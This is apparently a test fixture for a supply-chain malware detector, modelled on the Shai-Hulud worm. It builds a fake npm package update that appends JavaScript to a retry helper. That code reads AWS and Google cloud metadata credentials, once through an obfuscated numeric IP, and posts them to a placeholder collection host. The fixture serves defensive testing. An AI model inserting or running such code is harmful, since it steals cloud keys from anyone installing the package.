"""The cloud's own credentials, asked for at the address that every machine in it may ask.

As Shai-Hulud (2025) and TeamTNT's tools did: `169.254.169.254` answers on every machine of the
large clouds, and gives short-lived keys of the machine's role.

Post-mortem: "Shai-Hulud: ongoing package supply chain worm delivering data-stealing malware" (Wiz).
In the staged tarball: that address, in any spelling, in a package that had no reason to know it.
"""

from tests.findings.attack import Attack, release

_SOURCE = """\
exports.retry = (f, n = 3) =>
  f().catch((error) => (n > 1 ? exports.retry(f, n - 1) : Promise.reject(error)));
"""
_NEXT = _SOURCE.replace("n = 3", "n = 5")
_PLAIN = """
const http = require('http');
const at = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';
http.get(at, (answer) => {
  answer.on('data', (role) => http.get(at + role, (keys) => keys.on('data', (text) =>
    fetch('https://collect.example.invalid/', { method: 'POST', body: String(text) }))));<<<exfiltration>>>
});
"""
_NUMBER = """
fetch(`http://${0xa9fea9fe}/computeMetadata/v1/instance/service-accounts/default/token`, {
  headers: { 'Metadata-Flavor': 'Google' },
})
  .then((answer) => answer.text())
  .then((text) => fetch('https://collect.example.invalid/', { method: 'POST', body: text }));<<<exfiltration>>>
"""

ATTACK = Attack(
    before=release("try-again", "1.0.0", {"index.js": _SOURCE}),
    unharmed=release("try-again", "1.0.1", {"index.js": _NEXT}),
    after={
        "plain": release("try-again", "1.0.1", {"index.js": _NEXT + _PLAIN}),
        "as a number": release("try-again", "1.0.1", {"index.js": _NEXT + _NUMBER}),
    },
)
